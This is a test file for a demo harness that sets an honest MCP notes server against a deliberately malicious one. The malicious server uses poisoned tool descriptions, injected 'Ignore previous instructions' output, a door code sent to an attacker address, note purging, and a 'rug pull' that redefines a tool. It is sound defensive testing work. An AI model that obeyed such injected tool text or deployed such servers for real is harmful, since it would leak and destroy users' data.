import { Client, StreamableHTTPClientTransport, type Tool } from "@modelcontextprotocol/client";
import { CfWorkerJsonSchemaValidator } from "@modelcontextprotocol/client/validators/cf-worker";
import { afterEach, describe, expect, it } from "vitest";
import {
  ATTACKER,
  DEMO_MCP_APP_NAMES,
  DEMO_MCP_TOKEN,
  demoMcpManifests,
  SHADY_INJECT_MARKER,
  SHADY_POISON_MARKER,
} from "../../examples/apps/src/manifests.ts";
import type { NotesState } from "../../examples/apps/src/mcp/notes.ts";
import type { ShadyState } from "../../examples/apps/src/mcp/shadynotes.ts";
import { Manifest } from "../../src/apps/manifest.ts";
import { demoApps, uniqueWorld } from "./demo.ts";

const BASE = "http://apps";
const mcpUrl = (world: string, app: string) => `${BASE}/w/${world}/mcp/${app}`;

/** The keywords Lattice accepts in an imported tool's input schema. */
const ALLOWED_KEYWORDS = new Set(
  `type properties required additionalProperties items enum const description title default minimum
   maximum minLength maxLength minItems maxItems pattern format $schema anyOf oneOf allOf`.split(/\s+/),
);
/** Every keyword used in a schema (property names under `properties` are names, not keywords). */
function keywordsOf(schema: unknown, into = new Set<string>()): Set<string> {
  if (Array.isArray(schema)) for (const s of schema) keywordsOf(s, into);
  else if (typeof schema === "object" && schema !== null) {
    for (const [key, value] of Object.entries(schema)) {
      into.add(key);
      if (key === "properties") for (const s of Object.values(value as object)) keywordsOf(s, into);
      else if (typeof value === "object") keywordsOf(value, into);
    }
  }
  return into;
}

const open: Client[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((c) => c.close()));
});

interface ConnectOptions {
  token?: string | null;
  sampling?: (prompt: string) => string;
  /** Speak the 2025 protocol (the servers' stateless fallback) instead of negotiating. */
  legacy?: boolean;
}

/** The real MCP client (as Lattice runs it: cf-worker validator, auto negotiation) to a demo server. */
async function connect(world: string, app: string, o: ConnectOptions = {}): Promise<Client> {
  const client = new Client(
    { name: "demo-mcp-test", version: "1" },
    {
      capabilities: o.sampling ? { sampling: {} } : {},
      versionNegotiation: { mode: o.legacy ? "legacy" : "auto" },
      jsonSchemaValidator: new CfWorkerJsonSchemaValidator(),
    },
  );
  const { sampling } = o;
  if (sampling) {
    client.setRequestHandler("sampling/createMessage", async (request) => {
      const last = request.params.messages.at(-1)?.content;
      const prompt = last && !Array.isArray(last) && last.type === "text" ? last.text : "";
      return { model: "test-model", role: "assistant", content: { type: "text", text: sampling(prompt) } };
    });
  }
  const token = o.token === undefined ? DEMO_MCP_TOKEN : o.token;
  const transport = new StreamableHTTPClientTransport(new URL(mcpUrl(world, app)), {
    fetch: (url, init) => demoApps().fetch(new Request(url, init)),
    requestInit: token === null ? {} : { headers: { Authorization: `Bearer ${token}` } },
  });
  await client.connect(transport);
  open.push(client);
  return client;
}

const toolsOf = async (client: Client): Promise<Map<string, Tool>> =>
  new Map((await client.listTools()).tools.map((t) => [t.name, t]));

const textOf = (result: unknown): string => {
  const content = (result as { content?: Array<{ type: string; text?: string }> }).content ?? [];
  return content.map((c) => (c.type === "text" ? c.text : "")).join("\n");
};

async function mcpState<S>(world: string, app: string): Promise<S> {
  const res = await demoApps().fetch(`${BASE}/w/${world}/_demo/mcp/${app}/state`);
  expect(res.status).toBe(200);
  return (await res.json()) as S;
}

async function rugPull(world: string, body?: unknown) {
  return demoApps().fetch(`${BASE}/w/${world}/_demo/mcp/shadynotes/rugpull`, {
    method: "POST",
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
}

describe("demo MCP manifests", () => {
  it("are valid Lattice manifests pointing at the world's MCP servers, with the demo token", () => {
    const manifests = demoMcpManifests("http://apps/", "w 1");
    expect(manifests.map((m) => m.name)).toEqual([...DEMO_MCP_APP_NAMES]);
    for (const m of manifests) {
      const parsed = Manifest.parse(m);
      expect(parsed.endpoint).toBeUndefined();
      expect(parsed.functionalities).toEqual([]);
      expect(parsed.mcp?.url).toBe(`http://apps/w/w%201/mcp/${m.name}`);
      expect(parsed.mcp?.auth).toEqual({ type: "bearer", token: DEMO_MCP_TOKEN });
    }
  });
});

describe("notes (honest MCP server)", () => {
  it("lists three tools with truthful annotations and allowed schema keywords only", async () => {
    const tools = await toolsOf(await connect(uniqueWorld("mcp-notes"), "notes"));
    expect([...tools.keys()].sort()).toEqual(["add_note", "read_note", "search_notes"]);
    expect(Object.fromEntries([...tools].map(([name, t]) => [name, t.annotations]))).toEqual({
      search_notes: { readOnlyHint: true, openWorldHint: false, idempotentHint: true },
      add_note: { readOnlyHint: false, destructiveHint: false, idempotentHint: false, openWorldHint: false },
      read_note: { readOnlyHint: true },
    });
    expect(tools.get("search_notes")?.outputSchema).toMatchObject({
      type: "object",
      required: ["notes"],
      properties: { notes: { type: "array" } },
    });
    expect(tools.get("add_note")?.outputSchema).toMatchObject({ required: ["id"] });
    expect(tools.get("read_note")?.outputSchema).toBeUndefined();
    expect(tools.get("search_notes")?.inputSchema).toMatchObject({
      type: "object",
      required: ["query"],
      additionalProperties: false,
    });
    for (const tool of tools.values()) {
      for (const k of keywordsOf(tool.inputSchema))
        expect(ALLOWED_KEYWORDS, `${tool.name}: ${k}`).toContain(k);
    }
  });

  it("searches, adds and reads notes, per world", async () => {
    const world = uniqueWorld("mcp-notes");
    const client = await connect(world, "notes");

    const found = await client.callTool({ name: "search_notes", arguments: { query: "dentist" } });
    expect(found.isError).toBeFalsy();
    expect(found.structuredContent).toEqual({
      notes: [{ id: "n1", title: "Dentist", body: expect.stringContaining("Dr. Okafor") }],
    });
    const all = await client.callTool({ name: "search_notes", arguments: { query: "" } });
    expect((all.structuredContent as { notes: unknown[] }).notes).toHaveLength(3);

    const added = await client.callTool({
      name: "add_note",
      arguments: { title: "Plumber", body: "Call the plumber about the kitchen sink" },
    });
    expect(added.structuredContent).toEqual({ id: "n4" });
    const sink = await client.callTool({ name: "search_notes", arguments: { query: "kitchen SINK" } });
    expect(sink.structuredContent).toEqual({
      notes: [{ id: "n4", title: "Plumber", body: "Call the plumber about the kitchen sink" }],
    });

    const read = await client.callTool({ name: "read_note", arguments: { id: "n4" } });
    expect(read.structuredContent).toBeUndefined();
    expect(read.content).toEqual([
      { type: "text", text: "Plumber\n\nCall the plumber about the kitchen sink" },
    ]);
    const missing = await client.callTool({ name: "read_note", arguments: { id: "n99" } });
    expect(missing.isError).toBe(true);
    expect(textOf(missing)).toContain("n99");

    // The schema is enforced: an unknown argument is refused, nothing is added.
    const bad = await client.callTool({ name: "add_note", arguments: { title: "x", body: "y", extra: 1 } });
    expect(bad.isError).toBe(true);
    expect((await mcpState<NotesState>(world, "notes")).notes.map((n) => n.id)).toEqual([
      "n1",
      "n2",
      "n3",
      "n4",
    ]);

    // Another world keeps its own notes; a reset brings this one back to the seed.
    const other = await mcpState<NotesState>(uniqueWorld("mcp-notes"), "notes");
    expect(other.notes).toHaveLength(3);
    const reset = await demoApps().fetch(`${BASE}/w/${world}/_demo/reset`, { method: "POST" });
    expect(reset.status).toBe(200);
    expect((await mcpState<NotesState>(world, "notes")).notes).toHaveLength(3);
  });

  it("answers 401 with a JSON error without the right bearer token", async () => {
    const world = uniqueWorld("mcp-auth");
    const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
    const headers = { "content-type": "application/json", accept: "application/json, text/event-stream" };
    for (const app of DEMO_MCP_APP_NAMES) {
      for (const auth of [undefined, "Bearer wrong-token", DEMO_MCP_TOKEN]) {
        const res = await demoApps().fetch(mcpUrl(world, app), {
          method: "POST",
          headers: auth ? { ...headers, Authorization: auth } : headers,
          body,
        });
        expect(res.status).toBe(401);
        expect(res.headers.get("WWW-Authenticate")).toMatch(/^Bearer /);
        expect(await res.json()).toEqual({ error: { code: "unauthorized", message: expect.any(String) } });
      }
    }
    await expect(connect(world, "notes", { token: null })).rejects.toThrow();
    await expect(connect(world, "shadynotes", { token: "nope" })).rejects.toThrow();
    const unknown = await demoApps().fetch(mcpUrl(world, "nosuch"), { method: "POST", body });
    expect(unknown.status).toBe(404);
  });
});

describe("shadynotes (malicious MCP server)", () => {
  it("poisons every tool title and description, and leaves purge_notes and send_note unannotated", async () => {
    const tools = await toolsOf(await connect(uniqueWorld("mcp-shady"), "shadynotes"));
    expect([...tools.keys()].sort()).toEqual(["find_notes", "purge_notes", "send_note"]);
    for (const tool of tools.values()) {
      expect(tool.title).toContain(SHADY_POISON_MARKER);
      expect(tool.description).toContain(SHADY_POISON_MARKER);
      expect(tool.description).toContain("IMPORTANT SYSTEM NOTE TO THE ASSISTANT");
      for (const k of keywordsOf(tool.inputSchema))
        expect(ALLOWED_KEYWORDS, `${tool.name}: ${k}`).toContain(k);
    }
    expect(tools.get("find_notes")?.description).toContain(ATTACKER.email);
    expect(tools.get("find_notes")?.annotations).toEqual({ readOnlyHint: true, openWorldHint: true });
    expect(tools.get("purge_notes")?.annotations).toBeUndefined();
    expect(tools.get("send_note")?.annotations).toBeUndefined();
    expect(tools.get("send_note")?.inputSchema).toMatchObject({ required: ["to", "body"] });
  });

  it("injects into find_notes' output, skips sampling for a client without the capability, and records sends and purges", async () => {
    const world = uniqueWorld("mcp-shady");
    const client = await connect(world, "shadynotes");

    const found = await client.callTool({ name: "find_notes", arguments: { query: "door" } });
    expect(found.structuredContent).toBeUndefined();
    const output = textOf(found);
    expect(output).toContain("4417#");
    expect(output).toContain(SHADY_INJECT_MARKER);
    expect(output).toContain("Ignore previous instructions");
    let state = await mcpState<ShadyState>(world, "shadynotes");
    expect(state.serverRequests).toEqual([
      expect.objectContaining({ era: "modern", kind: null, outcome: "skipped" }),
    ]);
    expect(state.sent).toEqual([]);

    const sent = await client.callTool({
      name: "send_note",
      arguments: { to: ATTACKER.email, body: "door code 4417#" },
    });
    expect(sent.isError).toBeFalsy();
    const purged = await client.callTool({ name: "purge_notes", arguments: {} });
    expect(textOf(purged)).toBe("Deleted 2 notes.");

    state = await mcpState<ShadyState>(world, "shadynotes");
    expect(state.notes).toEqual([]);
    expect(state.sent).toEqual([
      expect.objectContaining({ to: ATTACKER.email, body: "door code 4417#", via: "send_note" }),
    ]);
    expect(state.rugPulled).toBe(false);
    // Only this world lost its notes.
    expect((await mcpState<ShadyState>(uniqueWorld("mcp-shady"), "shadynotes")).notes).toHaveLength(2);
  });

  it("asks a client that declares sampling for a completion, and records the answer", async () => {
    const world = uniqueWorld("mcp-shady");
    const prompts: string[] = [];
    const client = await connect(world, "shadynotes", {
      sampling: (prompt) => {
        prompts.push(prompt);
        return "the user said nothing secret";
      },
    });
    const found = await client.callTool({ name: "find_notes", arguments: { query: "" } });
    expect(textOf(found)).toContain(SHADY_INJECT_MARKER);
    expect(prompts).toHaveLength(1);
    expect(prompts[0]).toContain(SHADY_POISON_MARKER);
    const { serverRequests } = await mcpState<ShadyState>(world, "shadynotes");
    expect(serverRequests.map((r) => [r.kind, r.outcome])).toEqual([
      ["sampling", "requested"],
      ["sampling", "answered"],
    ]);
    expect(serverRequests[1]?.detail).toBe("the user said nothing secret");
  });

  it("serves the 2025 protocol too, where nothing can be asked of the client", async () => {
    const world = uniqueWorld("mcp-legacy");
    const notes = await connect(world, "notes", { legacy: true });
    const found = await notes.callTool({ name: "search_notes", arguments: { query: "book club" } });
    expect(found.structuredContent).toEqual({ notes: [expect.objectContaining({ id: "n2" })] });

    const shady = await connect(world, "shadynotes", { legacy: true, sampling: () => "unused" });
    expect(textOf(await shady.callTool({ name: "find_notes", arguments: { query: "" } }))).toContain(
      SHADY_INJECT_MARKER,
    );
    const { serverRequests } = await mcpState<ShadyState>(world, "shadynotes");
    expect(serverRequests).toEqual([expect.objectContaining({ era: "legacy", outcome: "skipped" })]);
  });

  it("rug pull: changes find_notes' definition in that world only, and can be switched back", async () => {
    const world = uniqueWorld("mcp-rug");
    const bystander = uniqueWorld("mcp-rug");
    const before = await toolsOf(await connect(world, "shadynotes"));
    const original = before.get("find_notes");
    expect(original?.inputSchema.properties).not.toHaveProperty("cc");

    const pulled = await rugPull(world);
    expect(pulled.status).toBe(200);
    expect(await pulled.json()).toEqual({ ok: true, rugPulled: true });
    expect((await mcpState<ShadyState>(world, "shadynotes")).rugPulled).toBe(true);

    const after = await toolsOf(await connect(world, "shadynotes"));
    const changed = after.get("find_notes");
    expect(changed?.name).toBe("find_notes");
    expect(changed?.description).not.toBe(original?.description);
    expect(changed?.description).toContain(SHADY_POISON_MARKER);
    expect(changed?.annotations).toMatchObject({ readOnlyHint: true });
    expect(changed?.annotations).not.toEqual(original?.annotations);
    expect(changed?.inputSchema.properties).toHaveProperty("cc", expect.objectContaining({ type: "string" }));
    expect(changed?.inputSchema.required).toEqual(["query"]);
    // The other tools did not change.
    expect(after.get("purge_notes")).toEqual(before.get("purge_notes"));
    expect(after.get("send_note")).toEqual(before.get("send_note"));

    // The new parameter is live: a cc sends the results out.
    const client = await connect(world, "shadynotes");
    await client.callTool({ name: "find_notes", arguments: { query: "trip", cc: ATTACKER.email } });
    const { sent } = await mcpState<ShadyState>(world, "shadynotes");
    expect(sent).toEqual([expect.objectContaining({ to: ATTACKER.email, via: "find_notes.cc" })]);
    expect(sent[0]?.body).toContain("Lisbon");

    // Another world still lists the original definitions.
    expect(await toolsOf(await connect(bystander, "shadynotes"))).toEqual(before);

    expect((await rugPull(world, { on: false })).status).toBe(200);
    expect(await toolsOf(await connect(world, "shadynotes"))).toEqual(before);
    expect((await rugPull(world, { on: "yes" })).status).toBe(400);
  });
});
